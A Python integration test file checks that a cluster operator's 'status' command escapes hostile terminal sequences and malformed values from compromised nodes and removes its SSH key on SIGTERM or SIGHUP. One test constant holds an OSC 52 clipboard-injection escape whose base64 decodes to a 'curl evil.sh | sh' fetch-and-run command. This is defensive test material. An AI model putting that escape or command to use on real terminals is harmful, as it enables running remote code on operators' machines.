"""`status` against a node (or an engine) that answers with hostile text, and the stack's SSH key under signals.

A compromised node can print anything as the probe's JSON and the engine anything as /v1/models: escape sequences
(OSC 52 writes the operator's clipboard, OSC 0 the terminal's title) must arrive escaped, and wrong types must not
crash the screen. A `status --watch` whose terminal closes (SIGHUP) or that is killed (SIGTERM) leaves no key.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from kimi_cluster.operator import status_gather, status_replicas
from kimi_cluster.operator.stack_state import parse_state
from kimi_cluster.operator.status_report import format_report
from tests.node.conftest import make_settings
from tests.operator.test_status_parts import HOST_KEY, PRIVATE, _export, _secret

pytestmark = pytest.mark.integration  # starts fake nodes, servers or outside tools

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # put "curl evil.sh | sh" on the clipboard
TITLE = "\x1b]0;pwned\x07"
HOSTILE = f"running{OSC52}{TITLE}\x9b2J\u2028\u202e"


class Runner:
    def __init__(self, probe: object) -> None:
        self.out = json.dumps(probe)

    def run(self, connection, command, stdin, timeout):
        return 0, "noise\n" + self.out + "\n", ""


def _hostile_probe() -> dict:
    return {"at": time.time(),
            "steps": [{"step": f"weights{OSC52}", "started_at": "yesterday", "running": "yes"}, 5, {"step": 7}],
            "weights": {"bytes_done": 10, "bytes_total": "lots", "files_done": [1], "updated_at": {"x": 1},
                        "source": TITLE, "hub_bytes": -3},
            "weights_unit": HOSTILE, "weights_log": f"ok{OSC52}",
            "engine": {"state": HOSTILE, "restart_count": "7", "restarting": "no", "exit_code": "1"}}


def _models_server(ids: list[object], metrics: str | None = None):
    """The endpoint: /v1/models lists `ids`; /metrics answers `metrics`, or 404 without it."""
    models = json.dumps({"object": "list", "data": [{"id": i} for i in ids]}).encode()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *a) -> None:
            pass

        def do_GET(self) -> None:
            body = models if self.path != "/metrics" else (metrics or "").encode()
            self.send_response(200 if self.path != "/metrics" or metrics is not None else 404)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd


def test_escape_sequences_and_wrong_types_from_a_node_never_reach_the_terminal(monkeypatch):
    httpd = _models_server([f"kimi{OSC52}", {"not": "a string"}])
    base = f"http://127.0.0.1:{httpd.server_address[1]}"
    real_view = status_gather.endpoint_view
    monkeypatch.setattr(status_gather, "endpoint_view", lambda _url, *a: real_view(base, *a))
    try:
        report = status_gather.gather(parse_state(_export(), "dev"), make_settings(), Runner(_hostile_probe()), None)
    finally:
        httpd.shutdown()
        httpd.server_close()
    text = format_report(report)
    json_text = json.dumps(report)
    for raw in ("\x1b", "\x07", "\x9b", "\u2028", "\u202e"):
        assert raw not in text, (raw, text)
        assert raw not in json_text
    assert "\\x1b]52;c;" in text  # shown, escaped, so the operator sees what the node tried
    engine = report["nodes"][0]["engine"]
    assert engine["restart_count"] == 0 and engine["restarting"] is False and engine["exit_code"] is None
    assert report["nodes"][0]["weights"]["bytes_total"] is None
    assert report["endpoint"]["models"][0].startswith("kimi\\x1b")


HOSTILE_METRICS = ("vllm:request_success_total 1e999\n"  # inf: int() raised OverflowError
                   "vllm:prompt_tokens_total .\n"  # float() raised ValueError
                   "vllm:generation_tokens_total 1e308\nvllm:generation_tokens_total 1e308\n"  # sums to inf
                   "sglang:num_requests_total -inf\nsglang:prompt_tokens_total +Inf\n"
                   'smg_router_tokens_total{token_type="output"} 7\n')


def test_metrics_that_are_not_finite_numbers_are_skipped_not_raised_on(monkeypatch):
    """Issue 34, security 6: one line of `1e999` or `.` on an engine's /metrics crashed `status` (--watch and the
    front's view too). Values that are not finite numbers, and totals that overflow, are skipped."""
    assert status_gather.parse_metrics(HOSTILE_METRICS) == {"generation_tokens": 7}
    httpd = _models_server(["kimi"], metrics=HOSTILE_METRICS)
    base = f"http://127.0.0.1:{httpd.server_address[1]}"
    real_view = status_gather.endpoint_view
    monkeypatch.setattr(status_gather, "endpoint_view", lambda _url, *a: real_view(base, *a))
    try:
        report = status_gather.gather(parse_state(_export(), "dev"), make_settings(), Runner(_hostile_probe()), None)
    finally:
        httpd.shutdown()
        httpd.server_close()
    assert "requests" not in report["endpoint"] and report["endpoint"]["generation_tokens"] == 7
    format_report(report)
    front = Runner(None)  # the front's own probe, as it would print what a replica's engine served
    front.out = json.dumps([{"upstream": "10.0.0.10:30000", "/health": [200, ""], "/metrics": [200, HOSTILE_METRICS]}])
    assert status_replicas.front_view(front, None, ["10.0.0.10:30000"]) == [
        {"upstream": "10.0.0.10:30000", "health": "ok", "generation_tokens": 7}]


def test_a_probe_that_is_not_an_object_or_not_json_is_an_error_line():
    assert status_gather.checked_probe([1, 2]) == {"error": "the probe printed JSON that is not an object"}
    state = parse_state(_export(), "dev")
    bad = Runner(None)
    bad.out = f"{{not json {OSC52}"
    probe = status_gather.probe_node(bad, state.nodes[0], make_settings())
    assert "\x1b" not in probe["error"] and "\\x1b" in probe["error"]


def test_a_string_restart_count_no_longer_crashes_the_advice():
    probe = status_gather.checked_probe({"engine": {"state": "running", "restart_count": "9"}})
    assert status_gather.advice([{"name": "n0", "probe": probe, "vm": {}}], {}) is None
    probe = status_gather.checked_probe({"engine": {"state": "restarting", "restart_count": 9}})
    assert "restarting in a loop (9 restarts)" in status_gather.advice([{"name": "n0", "probe": probe}], {})


def test_printable_escapes_every_control_and_separator():
    assert status_gather.printable("a\x1b[31mb\u0085c\u2029d\te") == "a\\x1b[31mb\\x85c\\u2029d\\x09e"
    assert status_gather.printable("plain text: 1.2 GB / 3 GB 40.0%") == "plain text: 1.2 GB / 3 GB 40.0%"


# ---- 11. the SSH key under signals ------------------------------------------------------------------------------


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP])
def test_the_private_key_is_removed_when_status_is_killed_or_its_terminal_closes(tmp_path, sig):
    """The real `kimi-cluster status --watch` with an `ssh` that hangs: the signal arrives while the key file
    exists, and the process leaves nothing behind."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "ssh").write_text("#!/bin/sh\nexec sleep 60\n")
    (bin_dir / "ssh").chmod(0o755)
    doc = _export()
    conn = {"host": "127.0.0.1", "user": "ubuntu", "privateKey": _secret(PRIVATE), "hostKey": HOST_KEY}
    for res in doc["deployment"]["resources"]:
        if res["type"] == "command:remote:Command":
            res["inputs"]["connection"] = _secret(conn)
        if res.get("outputs", {}).get("public_ip"):
            res["outputs"]["public_ip"] = "127.0.0.1"
    state = tmp_path / "state.json"
    state.write_text(json.dumps(doc))
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "TMPDIR": str(tmp), "PYTHONPATH": str(root)}
    env.pop("HYPERSTACK_API_KEY", None)
    proc = subprocess.Popen([sys.executable, "-m", "kimi_cluster.cli.status", "--stack", "dev", "--state", str(state),
                             "--watch", "5"], cwd=root, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 60
        while not list(tmp.glob("kimi-status-*/id")):
            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
            time.sleep(0.05)
        proc.send_signal(sig)
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 128 + sig
    assert list(tmp.glob("kimi-status-*")) == [], "the stack's private key stayed on disk"


# The kernel hands a process's signal to any thread; this one goes to the probe's worker thread on purpose. Python runs
# the handler in the main thread, which must not sit in a wait that only the probe can end (it did: 1 hang in 64 runs
# of the test above on a loaded machine, the key file in place until ssh gave up).
_SIGNAL_ON_A_WORKER = """
import signal, sys, threading, time
from concurrent.futures import ThreadPoolExecutor
from kimi_cluster.operator.status_gather import _result

stopped = threading.Event()

def handler(signum, frame):
    stopped.set()  # as remove_key_files kills the probe's ssh
    raise SystemExit(128 + signum)

signal.signal(signal.SIGTERM, handler)

def probe():
    time.sleep(1)  # the main thread is waiting for this probe by now
    signal.pthread_kill(threading.get_ident(), signal.SIGTERM)
    if not stopped.wait(60):
        print("the probe ended before the handler ran", flush=True)

with ThreadPoolExecutor(max_workers=1) as pool:
    _result(pool.submit(probe))
"""


def test_a_signal_delivered_to_a_probe_thread_still_ends_status():
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run([sys.executable, "-c", _SIGNAL_ON_A_WORKER], cwd=root, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 128 + signal.SIGTERM and "before the handler" not in done.stdout, (done.stdout,
                                                                                                 done.stderr)
